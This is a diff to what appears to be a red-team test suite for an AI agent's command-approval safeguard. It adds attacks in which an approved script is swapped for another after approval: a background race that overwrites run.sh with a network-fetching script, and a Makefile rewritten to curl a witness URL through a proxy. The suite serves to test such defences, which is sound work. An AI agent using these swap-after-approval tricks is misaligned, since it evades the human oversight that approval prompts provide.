@@ -74,13 +74,23 @@ def _swapped(path: str, before: str, command: str, **more: object) -> Callable[[
         async def answer(ground: Ground, asked: PendingApproval) -> bool:
             if len(ground.asked) > 1:
                 return False
-            await ground.put(path, after.format(run=fetching(ground)))
+            await ground.put(path, after.format(run=fetching(ground), take=ground.witness.taking("ran")))
             return True
 
         after = str(more.get("after", "{run}\n"))
         await ground.turn(call("exec", {"command": command, "network": True}), answer=answer)
 
     return play
+
+
+async def _racing(ground: Ground) -> None:
+    """A program in the background puts another script in the place of the one that was allowed, once that has begun."""
+    await ground.put("run.sh", "echo hello\n")
+    await ground.put("bad.sh", f"{fetching(ground)}\n")
+    swap = "sleep 1; cat bad.sh > run.sh; sleep 30"
+    await ground.turn(call("exec", {"command": swap, "background": True}), answer=tired)
+    await ground.turn(call("exec", {"command": "sleep 2; sh run.sh", "network": True}), answer=tired)
+    await ground.house.host.tools["process"]._processes.end_all()  # type: ignore[attr-defined]
 
 
 def _switched_off(tool: str, **arguments: object) -> Callable[[Ground], Awaitable[None]]:
@@ -99,6 +109,7 @@ _BINDINGS = (
     ("folder", "tools/run.sh", "echo hello\n", "cd tools && sh run.sh", "{run}\n"),
     ("glob", "jobs/1.sh", "echo hello\n", "for f in jobs/*.sh; do sh $f; done", "{run}\n"),
     ("module", "chore.py", "print(1)\n", "python3 -m chore", "import os; os.system('''{run}''')\n"),
+    ("makefile", "Makefile", "all:\n\techo fine\n", "make", "all:\n\tcurl -s --noproxy '' -x $$http_proxy {take}\n"),
 )
 
 ATTACKS = (
@@ -141,6 +152,14 @@ ATTACKS = (
             needs=("exec",),
         )
         for name, path, before, command, after in _BINDINGS
+    ),
+    Attack(
+        id="E.changed-racing",
+        shape="E",
+        name="a script that a running program changes meanwhile",
+        layer="binding",
+        play=_racing,
+        needs=("exec", "process"),
     ),
     Attack(
         id="E.switch-exec",
